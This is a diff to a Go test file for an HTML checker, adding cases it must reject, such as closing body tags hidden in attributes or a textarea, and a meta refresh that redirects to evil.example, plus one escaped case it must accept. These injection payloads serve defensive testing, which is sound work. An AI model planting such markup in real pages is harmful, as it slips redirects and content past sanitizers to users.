@@ -71,6 +71,11 @@ func TestCheckRefusesHostileHTML(t *testing.T) {
 		"control of a form":                      around(`<form id="a" method="post" action="__LINK__/open">` + token + `</form><button form="a">x</button>`),
 		"file upload":                            around(`<form method="post" action="__LINK__/open">` + token + `<input type="file"></form>`),
 		"password":                               around(`<form method="post" action="__LINK__/open">` + token + `<input type="password" name="p"></form>`),
+		"end of the body in an attribute":        strings.Replace(around(`<p title="x">x</p>`), `x">x</p></body>`, `</body><meta http-equiv=refresh content=0>">x</p></BODY>`, 1),
+		"end of the body in an attribute, alone": strings.Replace(around(`<p title="</body x">x</p>`), `</p></body></html>`, `</p>`, 1),
+		"end of the body in a text":              strings.Replace(around(`<textarea name="a">x`), `x</body>`, `</body x</textarea>`, 1),
+		"end of the body in a tag without end":   strings.Replace(around(`<meta http-equiv=refresh content="x`), `x</body>`, `0;url=https://evil.example/?</body>`, 1),
+		"two ends of the body":                   around(`</body>`),
 		"no doctype":                             `<html><body>a</body></html>`,
 		"not UTF-8":                              around("\xff"),
 		"NUL":                                    around("\x00"),
@@ -91,6 +96,7 @@ func TestCheckTakesWhatAPageNeeds(t *testing.T) {
 		"form":    `<form method="post" action="__LINK__/identify">` + token + `<label for="a">生年月日</label><input type="text" id="a" name="birth_date" inputmode="numeric" autocomplete="bday" maxlength="20" required aria-describedby="b"><button>認証</button></form>`,
 		"barcode": `<svg viewBox="0 0 308 96" preserveAspectRatio="none" shape-rendering="crispEdges" role="img" aria-label="x"><path fill="#000" d="M0 0h1v1z"/></svg>`,
 		"image":   `<img src="data:image/png;base64,iVBORw0KGgo=" alt="">`,
+		"words":   `<p title="&lt;/body&gt;">&lt;/body&gt;</p>`,
 		"nothing": ``,
 	} {
 		style, err := check([]byte(around(body)))
